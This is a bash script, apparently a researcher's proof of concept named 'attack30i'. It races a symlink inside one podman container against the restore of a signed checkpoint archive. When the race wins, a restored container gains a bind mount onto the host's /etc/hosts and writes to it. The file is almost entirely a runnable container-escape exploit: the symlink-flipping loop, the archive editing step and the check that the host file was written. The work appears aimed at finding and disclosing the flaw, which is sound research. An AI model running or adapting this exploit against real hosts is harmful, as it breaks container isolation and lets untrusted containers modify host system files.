#!/bin/bash
# attack30i: check-then-use of container_own() by another container's processes (node policy unchanged, SIGNED export).
# attack30i-c1 (an ordinary podman run container; its root is host uid 0, so what it makes is "root-owned, not
# movable by others") flips, in its own root, attack30i/overlay-containers/<ID>/userdata between absent (the shim's
# openat2 says ENOENT: "not a link", accepted) and a link to /etc. The archive's spec.dump adds a second /etc/hosts bind
# from C1_MERGED/attack30i/overlay-containers/<ID>/userdata/hosts: <self>/userdata/hosts, what the dump recorded.
set -u; export CONTAINERS_CONF=/var/tmp/attack30i/dcontainers.conf  # the default policy: rt-default.sh, dtrust
D=/var/tmp/attack30i; H=$(dirname "$(readlink -f "$0")"); cd $D; cp /etc/hosts $D/hosts.before
CID=$(/usr/lib/gpuckpt/venv/bin/python3 $H/edit30i.py src.tar.zst /dev/null nosuchmode | cut -d' ' -f1)
M=$(podman inspect attack30i-c1 --format '{{.GraphDriver.Data.MergedDir}}')
/usr/lib/gpuckpt/venv/bin/python3 $H/edit30i.py src.tar.zst racehosts.tar.zst racehosts $M/attack30i
podman exec -d attack30i-c1 python3 -c "
import os, time
d = '/attack30i/overlay-containers/$CID'; os.makedirs(d, exist_ok=True); u = d + '/userdata'
end = time.time() + ${RACE_S:-240}
while time.time() < end:
    try: os.unlink(u)
    except FileNotFoundError: pass
    time.sleep(${ABSENT_S:-0.03})
    os.symlink('/etc', u)
    time.sleep(${PRESENT_S:-0.1})
"
for i in $(seq 1 ${TRIES:-12}); do
  podman rm -f -t 0 attack30i-src >/dev/null 2>&1
  out=$(timeout 100 podman container restore --import racehosts.tar.zst 2>&1 | tail -1 | cut -c1-300); rc=$?
  m=$(podman exec attack30i-src grep " /etc/hosts " /proc/self/mountinfo 2>&1)
  echo "try $i ($(date -u +%T)): $out | /etc/hosts: $m"
  if echo "$m" | grep -q "/etc/hosts .* ext4"; then
    podman exec attack30i-src sh -c 'echo "# attack30i-from-container" >> /etc/hosts'
    grep -q attack30i-from-container /etc/hosts && echo "HOST FILE /etc/hosts written from a container restored from a SIGNED archive (default trust policy), try $i"
    break
  fi
done
cp $D/hosts.before /etc/hosts; cmp /etc/hosts $D/hosts.before && echo "host /etc/hosts put back"
podman rm -f -t 0 attack30i-src >/dev/null 2>&1
